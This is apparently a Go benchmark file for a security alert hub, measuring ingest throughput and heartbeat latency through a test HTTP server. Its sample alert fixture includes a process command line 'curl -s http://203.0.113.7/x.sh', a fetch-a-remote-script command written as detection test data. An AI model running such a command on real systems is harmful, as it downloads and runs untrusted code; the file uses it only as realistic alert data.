package hub

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"sort"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/auth"
	"github.com/vigil-sec/vigil/internal/store"
)

func post(b *testing.B, client *http.Client, url, token string, body []byte) {
	req, _ := http.NewRequest("POST", url, bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	res, err := client.Do(req)
	if err != nil {
		b.Fatal(err)
	}
	msg, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode/100 != 2 {
		b.Fatalf("POST %s = %d %s", url, res.StatusCode, msg)
	}
}

// BenchmarkIngestHTTP measures alerts/s through the real handler and store:
// batches of 1000 new alerts (each realistic, with container and process
// entities) from 4 concurrent sensors of different clusters.
func BenchmarkIngestHTTP(b *testing.B) {
	for _, o := range openers {
		b.Run(o.name, func(b *testing.B) {
			e := newEnv(b, o.open, func(c *Config) { c.IngestRate = -1 }) // measure the store, not the limit
			const senders, size = 4, 1000
			tokens := make([]string, senders)
			for i := range tokens {
				tokens[i] = e.cluster("s1", "g1", fmt.Sprintf("c%d", i))
			}
			mkBatch := func(sender, n int) []byte {
				alerts := make([]map[string]any, size)
				for i := range alerts {
					alerts[i] = testAlert(fmt.Sprintf("s%d-b%d-%d", sender, n, i), func(m map[string]any) {
						m["entities"] = map[string]any{"node": "node-1", "namespace": "web", "pod": "web-7f9c",
							"container":     map[string]any{"id": "3b1f2c", "name": "app", "image": "nginx:1.27"},
							"process":       map[string]any{"path": "/usr/bin/curl", "commandLine": "curl -s http://203.0.113.7/x.sh", "pid": 4242, "uid": 0},
							"parentProcess": map[string]any{"path": "/bin/sh", "commandLine": "sh -c ...", "uid": 0}}
						m["tactics"] = []string{"Execution"}
					})
				}
				j, _ := json.Marshal(batch("s1", "g1", fmt.Sprintf("c%d", sender), alerts...))
				return j
			}
			// Encode the batches first: the sensors' JSON encoding is not the hub's cost.
			per := (b.N + senders - 1) / senders
			bodies := make([][][]byte, senders)
			for s := range senders {
				for n := range per {
					bodies[s] = append(bodies[s], mkBatch(s, n))
				}
			}
			b.ResetTimer()
			start := time.Now()
			var wg sync.WaitGroup
			for s := range senders {
				wg.Add(1)
				go func() {
					defer wg.Done()
					for _, body := range bodies[s] {
						post(b, e.ts.Client(), e.ts.URL+"/ingest/v1/alerts", tokens[s], body)
					}
				}()
			}
			wg.Wait()
			b.ReportMetric(float64(per*senders*size)/time.Since(start).Seconds(), "alerts/s")
		})
	}
}

// BenchmarkHeartbeat measures heartbeat latency with 10,000 registered
// clusters, each with its own agent token, heartbeats spread over all of
// them from concurrent clients.
func BenchmarkHeartbeat(b *testing.B) {
	st := openSQLite(b)
	ctx := context.Background()
	now := time.Now()
	const clusters = 10_000
	secrets := make([]string, clusters)
	bodies := make([][]byte, clusters)
	for i := range clusters {
		ref := store.ClusterRef{Subscription: "s1", ResourceGroup: fmt.Sprintf("g%d", i%20), Name: fmt.Sprintf("c%05d", i)}
		if _, err := st.PutCluster(ctx, store.Cluster{ClusterRef: ref, ConnectivityStatus: store.Connecting, ProvisioningState: store.ProvisioningSucceeded, CreatedAt: now, UpdatedAt: now}); err != nil {
			b.Fatal(err)
		}
		s, _, err := auth.CreateToken(ctx, st, auth.NewToken{Name: "agent-" + ref.Name, Kind: store.TokenAgent, Cluster: ref}, now)
		if err != nil {
			b.Fatal(err)
		}
		secrets[i] = s
		bodies[i], _ = json.Marshal(map[string]any{"clusterId": auth.ClusterID(ref), "agentVersion": "1.0.0", "kubernetesVersion": "v1.31.2", "nodeCount": 3})
	}
	srv, err := New(Config{Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}, st)
	if err != nil {
		b.Fatal(err)
	}
	ts := httptest.NewServer(srv)
	defer ts.Close()
	b.Run("clusters=10000", func(b *testing.B) {
		var next atomic.Int64
		var mu sync.Mutex
		lat := make([]time.Duration, 0, b.N)
		b.SetParallelism(2) // 2×GOMAXPROCS concurrent agents
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			local := make([]time.Duration, 0, 1024)
			for pb.Next() {
				i := int(next.Add(1)) % clusters
				t0 := time.Now()
				post(b, ts.Client(), ts.URL+"/ingest/v1/heartbeat", secrets[i], bodies[i])
				local = append(local, time.Since(t0))
			}
			mu.Lock()
			lat = append(lat, local...)
			mu.Unlock()
		})
		b.StopTimer()
		sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
		q := func(p float64) float64 {
			return float64(lat[min(len(lat)-1, int(p*float64(len(lat))))].Microseconds()) / 1000
		}
		b.ReportMetric(q(0.50), "p50-ms")
		b.ReportMetric(q(0.99), "p99-ms")
	})
}
